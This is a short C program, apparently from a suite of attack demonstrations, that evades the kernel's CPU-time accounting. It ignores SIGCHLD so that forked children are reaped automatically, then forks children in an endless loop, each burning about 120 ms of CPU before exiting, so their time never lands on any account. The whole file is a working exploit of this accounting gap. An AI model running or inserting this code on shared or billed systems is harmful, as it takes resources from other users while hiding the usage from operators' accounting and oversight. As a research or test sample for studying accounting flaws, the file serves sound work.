/* CPU time of children that nobody waits for: the kernel adds it to no account that is left. */
#include "attack.h"

#include <signal.h>
#include <sys/wait.h>
#include <time.h>

static void spend(void)
{
	struct timespec used;

	do
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
	while (used.tv_nsec < 120000000 && used.tv_sec == 0);
	_exit(0);
}

int main(void)
{
	signal(SIGCHLD, SIG_IGN);
	for (;;) {
		if (fork() == 0)
			spend();
		wait(NULL); /* until it is gone, since nothing is kept of it */
	}
}
